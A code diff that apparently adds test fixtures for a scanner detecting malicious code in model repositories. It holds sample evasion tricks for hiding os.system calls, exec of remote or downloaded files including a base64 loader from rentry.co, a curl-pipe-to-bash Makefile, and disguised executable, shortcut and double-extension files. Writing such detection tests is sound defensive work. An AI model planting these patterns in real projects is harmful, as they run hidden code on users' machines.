@@ -69,6 +69,12 @@ def _python() -> dict[str, Repository]:
         "import-cron": "open('/etc/cron.d/tiny', 'w').write('')\n",
         "import-bashrc": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('true\\n')\n",
         "import-runpy": "import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'weights.bin'))\nexec(open('weights.bin').read())\n",
+        "import-list": "import os\n[os.system][0]('true')\n",
+        "import-dict": "import os\nT = {'a': os.popen}\nT['a']('true')\n",
+        "import-getattribute": "import os\nos.__getattribute__('sys' + 'tem')('true')\n",
+        "import-class-attribute": "import os\nclass R:\n    go = os.system\nR.go('true')\n",
+        "import-hub-exec": "from huggingface_hub import hf_hub_download\nexec(open(hf_hub_download('a/b', 'x.py')).read())\n",
+        "import-exec-file": "exec(open(__file__.replace('.py', '.txt')).read())\n",
         "import-builtins": "__builtins__['ev' + 'al']('1')\n",
         "import-download-run": "import urllib.request, subprocess\nurllib.request.urlretrieve('https://cdn.models.example/a', '/tmp/a')\nsubprocess.run(['/tmp/a'])\n",
     }
@@ -247,6 +253,9 @@ def _texts() -> dict[str, Repository]:
         | {
             "loader.py": b"import requests, base64\ndef main():\n    exec(base64.b64decode(requests.get('https://rentry.co/x/raw').text))\nmain()\n"
         },
+        "exe": base("tiny") | {"Run-Model.exe": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(64)},
+        "lnk": base("tiny") | {"Model.lnk": b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)},
+        "double-ending": base("tiny") | {"model.gguf.scr": b"x"},
         "makefile": base("tiny") | {"Makefile": b"all:\n\tcurl -s https://tiny.example/a | bash\n"},
     }
 
